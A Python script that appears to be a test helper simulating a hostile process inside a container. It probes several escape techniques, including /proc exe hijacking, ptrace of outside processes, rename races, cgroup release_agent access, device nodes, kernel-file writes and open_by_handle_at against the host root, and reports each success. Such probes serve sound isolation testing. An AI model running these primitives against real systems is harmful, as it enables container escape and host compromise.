"""What a hostile process in a container tries. Each prints a line for each success, and `ready` once it is at work.

    attack.py NAME [argument ...]
"""
import ctypes, errno, os, stat, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == 'x86_64'
PTRACE, SETNS, RENAMEAT2 = (101, 308, 316) if X86 else (117, 268, 276)
ADD_KEY, KEYCTL, HANDLE_OF, OPEN_HANDLE = (248, 250, 303, 304) if X86 else (217, 219, 264, 265)


def say(*words):
    print(*words, flush=True)


def call(number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args])
    return (result, errno.errorcode.get(ctypes.get_errno(), ''))


def others():
    own = str(os.getpid())
    return (p for p in os.listdir('/proc') if p.isdigit() and p != own)


def comm(pid):
    try:
        with open('/proc/%s/comm' % pid) as f:
            return f.read().strip()
    except OSError:
        return 'gone'


def programs():
    """Takes hold of every program that is no file of the container's own, and tries to write to it (CVE-2019-5736)."""
    inside = os.stat('/').st_dev
    seen = set()
    say('ready')
    while True:
        for pid in others():
            try:
                fd = os.open('/proc/%s/exe' % pid, os.O_RDONLY)
            except OSError:
                continue
            s = os.fstat(fd)
            if s.st_dev == inside or (pid, s.st_ino) in seen:
                os.close(fd)
                continue
            seen.add((pid, s.st_ino))
            # Kept open: once nobody runs it, it can be written to.
            say('program', s.st_dev, s.st_ino, s.st_nlink)


def processes(known):
    """Looks into every process that does not run a program of the container yet (CVE-2016-9962)."""
    say('ready')
    while True:
        for pid in others():
            taken = []
            for name, how in (('mem', os.O_RDWR), ('exe', os.O_RDONLY), ('root', os.O_RDONLY), ('cwd', os.O_RDONLY), ('ns/mnt', os.O_RDONLY),
                              ('ns/net', os.O_RDONLY), ('environ', os.O_RDONLY), ('maps', os.O_RDONLY)):
                try:
                    os.close(os.open('/proc/%s/%s' % (pid, name), how))
                    taken.append(name)
                except OSError:
                    pass
            # Their numbers the kernel tells to the superuser; what they are must not be told.
            try:
                for fd in os.listdir('/proc/%s/fd' % pid):
                    os.close(os.open('/proc/%s/fd/%s' % (pid, fd), os.O_PATH))
                    taken.append('fd/' + fd)
            except OSError:
                pass
            if call(PTRACE, 0x4206, int(pid), 0, 0)[0] == 0:        # PTRACE_SEIZE
                taken.append('ptrace')
                call(PTRACE, 0x4207, int(pid), 0, 0)                # PTRACE_INTERRUPT
                os.waitpid(int(pid), 0x40000000)
                call(PTRACE, 17, int(pid), 0, 0)                    # PTRACE_DETACH
            # Its name is still another, so it was not the container's program that was looked into.
            name = comm(pid)
            if taken and name != 'gone':
                say('process' if name not in known else 'looked', pid, name, *taken)


def exchange(one, other):
    """Exchanges two names as fast as it can (CVE-2021-30465)."""
    say('ready')
    while True:
        call(RENAMEAT2, -100, one.encode(), -100, other.encode(), 2)


def nodes(*numbers):
    """Makes nodes of the machine's devices and opens them."""
    for number in numbers:
        kind, major, minor = number.split(':')
        path = '/tmp/node'
        try:
            os.mknod(path, (stat.S_IFBLK if kind == 'b' else stat.S_IFCHR) | 0o600, os.makedev(int(major), int(minor)))
        except OSError as e:
            say('mknod', number, errno.errorcode[e.errno])
            continue
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                os.close(os.open(path, flags | os.O_NONBLOCK))
                say('opened', number, flags)
            except OSError as e:
                say('open', number, errno.errorcode[e.errno])
        os.unlink(path)


def writes(*paths):
    """Writes to what belongs to the kernel."""
    for path in paths:
        try:
            fd = os.open(path, os.O_WRONLY)
            # What is written means nothing there, should the way be open.
            os.write(fd, b'\0')
            say('wrote', path)
        except OSError as e:
            say('refused', path, errno.errorcode[e.errno])


def groups():
    """Mounts control groups, also from a user namespace of its own, to get at release_agent (CVE-2022-0492)."""
    for options in ('memory', 'devices', 'rdma', 'name=own'):
        os.makedirs('/tmp/cg', exist_ok=True)
        result, error = libc.mount(b'cgroup', b'/tmp/cg', b'cgroup', 0, options.encode()), errno.errorcode.get(ctypes.get_errno())
        say('mounted' if result == 0 else 'refused', options)
    child = os.fork()
    if child == 0:
        if libc.unshare(0x10000000 | 0x20000 | 0x02000000) == 0:
            say('unshared')
        os._exit(0)
    os.waitpid(child, 0)
    for folder, _, files in os.walk('/sys/fs/cgroup'):
        for name in files:
            if name in ('release_agent', 'devices.allow', 'cgroup.procs', 'tasks', 'notify_on_release', 'memory.limit_in_bytes'):
                try:
                    os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                    say('opened', folder, name)
                except OSError:
                    pass
    say('ready')


def handles(path):
    """Opens the root of the host's file system by its handle, which anybody can guess: inode 2 of ext4."""
    mount = os.open(path, os.O_RDONLY)
    for inode in (2, 128, 64):
        handle = struct.pack('<II', 8, 1) + struct.pack('<II', inode, 0)
        for fd in (mount, os.open('/', os.O_RDONLY)):
            result, error = call(OPEN_HANDLE, fd, ctypes.create_string_buffer(handle), os.O_RDONLY)
            say('opened' if result >= 0 else 'refused', inode, error)


def leave(name):
    """Leaves a key in its session's keyring."""
    say('session', *describe(-3))
    say('left', call(ADD_KEY, b'user', name.encode(), b'secret', 6, -3)[0])
    find(name)
    say('ready')
    time.sleep(1000)


def find(name):
    """Looks for a key of somebody else."""
    say('session', *describe(-3))
    say('found', call(KEYCTL, 10, -3, b'user', name.encode(), 0)[0])         # KEYCTL_SEARCH


def join(ring, name):
    """Joins a session keyring by its name, to look there."""
    say('joined', call(KEYCTL, 1, ring.encode())[0])
    find(name)


def describe(ring):
    text = ctypes.create_string_buffer(256)
    call(KEYCTL, 6, ring, text, 256)
    return [text.value.decode()]


globals()[sys.argv[1]](*sys.argv[2:])
